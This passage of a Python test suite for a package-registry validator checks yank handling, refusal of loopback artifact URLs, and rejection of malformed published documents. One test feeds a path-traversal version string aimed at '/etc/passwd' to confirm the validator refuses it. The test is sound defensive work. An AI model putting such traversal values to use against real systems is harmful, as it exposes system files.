    assert f"{rel}:" in result.stderr
    assert "expected each entry once; got mara-okafor more than once" in result.stderr


# --- yanks never need the artifact ----------------------------------------------------------


def test_a_yank_never_downloads_the_artifact(repo: Path) -> None:
    """The artifact URL of a merged version is dead; yanking it must still pass the gate."""
    rel = add_version(repo, "auth-jwt", "1.3.0", None)
    text = read(repo, rel)
    write(repo, rel, re.sub(r"(?m)^  url: .*$", "  url: https://127.0.0.1:9/gone.tar.gz", text))
    sign_file(repo / rel, MARA)
    merge(repo)
    yank(repo, rel, serial=1, key=MARA)
    commit(repo)
    result = CliRunner().invoke(
        cli, ["validate", INDEX, "--base", "main", "--author", "mara-okafor"]
    )
    assert result.exit_code == 0, result.output
    assert "download failed" not in result.output and "refusing" not in result.output


# --- the published registry's documents are checked before use -------------------------


def test_a_published_version_that_is_not_a_version_is_refused(repo: Path, tmp_path: Path) -> None:
    live = tmp_path / "live"
    document = live / "index/au/th/auth-jwt.json"
    document.parent.mkdir(parents=True)
    artifact = {"url": "x", "sha256": "0" * 64, "size": 1}
    versions = [{"version": "../../../../etc/passwd", "artifact": artifact}]
    document.write_text(json.dumps({"versions": versions}), encoding="utf-8")
    add_version(repo, "auth-jwt", "1.3.0", MARA)
    commit(repo)
    result = gate("--author", "mara-okafor", "--published", str(live))
    assert result.exit_code == 3, result.output
    assert "cannot read the published document (not a version: '../../../../etc/passwd')" in (
        result.stderr
    )
    assert "Traceback" not in result.output


# --- artifact URLs must lead to public addresses --------------------------------------------


def _remote_version(repo: Path, url: str, body: bytes) -> str:
    rel = add_version(repo, "auth-jwt", "1.3.0", None)
    text = read(repo, rel)
    text = re.sub(r"(?m)^  url: .*$", f"  url: {url}", text)
    text = re.sub(r"(?m)^  sha256: .*$", f"  sha256: {hashlib.sha256(body).hexdigest()}", text)
    text = re.sub(r"(?m)^  size: .*$", f"  size: {len(body)}", text)
    write(repo, rel, text)
    sign_file(repo / rel, MARA)
    return rel


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_an_artifact_on_a_private_address_is_refused_unless_the_registry_allows_it(
    repo: Path, tmp_path: Path, serve_dir: Any, host: str
) -> None:
    body = b"an artifact served from this machine\n"
    (tmp_path / "www").mkdir()
    (tmp_path / "www" / "a.tar.gz").write_bytes(body)
    url = serve_dir(tmp_path / "www").replace("127.0.0.1", host) + "a.tar.gz"
    registry = f"{INDEX}/registry.yaml"
    git(repo, "checkout", "-q", "main")
    write(repo, registry, read(repo, registry).replace("[https]", "[https, http]"))
    commit(repo, "allow http")
    git(repo, "checkout", "-q", "-B", "pr", "main")
    rel = _remote_version(repo, url, body)
    commit(repo)
    result = CliRunner().invoke(
        cli, ["validate", INDEX, "--base", "main", "--author", "mara-okafor"]
    )
    assert result.exit_code == 1, result.output
    assert f"{rel}:{line_of(repo, rel, r'^  url:')}: artifact.url: {url}: refusing to connect" in (
        result.stderr
    )
    assert "a loopback address" in result.stderr
    # The registry's own switch (for tests and a demo on this machine) allows it.
    git(repo, "checkout", "-q", "main")
    text = read(repo, registry).replace(
        "policy:\n", "policy:\n  allow_private_addresses: true\n", 1
    )
    write(repo, registry, text)
    commit(repo, "allow private addresses")
    git(repo, "checkout", "-q", "pr")
    git(repo, "rebase", "-q", "main")
    allowed = CliRunner().invoke(
        cli, ["validate", INDEX, "--base", "main", "--author", "mara-okafor"]
    )
    assert allowed.exit_code == 0, allowed.output
